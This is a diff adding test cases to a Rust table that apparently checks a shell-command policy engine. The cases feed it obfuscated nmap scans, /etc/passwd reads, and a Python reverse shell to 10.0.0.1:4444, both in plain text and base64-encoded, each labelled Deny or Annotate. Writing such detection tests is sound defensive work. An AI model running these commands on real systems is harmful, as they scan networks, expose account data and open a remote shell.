@@ -150,6 +150,18 @@ const CASES: &[Case] = &[
     case(&["sh", "-c", "cat${IFS}/etc/passwd"], Annotate, &["exec-account-file-read", "exec-obfuscation"]),
     case(&["sh", "-c", "((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((nmap))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))"], Deny, &["exec-network-scan", "exec-analysis-limit"]),
     case(&["sh", "-c", "if then fi (( nmap 10.0.0.1"], Deny, &["exec-network-scan"]),
+    // Text piped into a shell or interpreter, constant substitutions, unset variables.
+    case(&["sh", "-c", "echo 'nmap -sS 10.0.0.0/24' | sh"], Deny, &["exec-network-scan"]),
+    case(&["sh", "-c", "echo pamn | rev | bash"], Deny, &["exec-network-scan"]),
+    case(&["sh", "-c", "printf 'nm%s 10.0.0.1' ap | sh -s"], Deny, &["exec-network-scan"]),
+    case(&["sh", "-c", "$(echo nmap) 10.0.0.1"], Deny, &["exec-network-scan", "exec-obfuscation"]),
+    case(&["sh", "-c", "`printf '\\x6e\\x6d\\x61\\x70'` 10.0.0.1"], Deny, &["exec-network-scan", "exec-obfuscation"]),
+    case(&["sh", "-c", "n${x}map 10.0.0.1"], Deny, &["exec-network-scan", "exec-obfuscation"]),
+    case(&["sh", "-c", "$SHELL -c 'nmap 10.0.0.1'"], Deny, &["exec-network-scan"]),
+    case(&["sh", "-c", "cat $(echo /etc/passwd)"], Annotate, &["exec-account-file-read"]),
+    case(&["sh", "-c", "echo \"import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);pty.spawn('sh')\" | python3"], Deny, &["exec-reverse-shell"]),
+    case(&["python3", "-c", "exec(__import__('base64').b64decode('aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZXQuc29ja2V0KCk7cy5jb25uZWN0KCgnMTAuMC4wLjEnLDQ0NDQpKTtvcy5kdXAyKHMuZmlsZW5vKCksMCk7cHR5LnNwYXduKCdzaCcp'))"], Deny, &["exec-reverse-shell", "exec-encoded-payload"]),
+    case(&["sh", "-c", "echo hello | cat | sh"], Allow, &[]),
     // Interactive shells and attach: low, never denied, and said so.
     Case { argv: &["bash"], stdin: true, action: Allow, rules: &["exec-interactive-shell"] },
     Case { argv: &["/bin/sh", "-i"], stdin: true, action: Allow, rules: &["exec-interactive-shell"] },
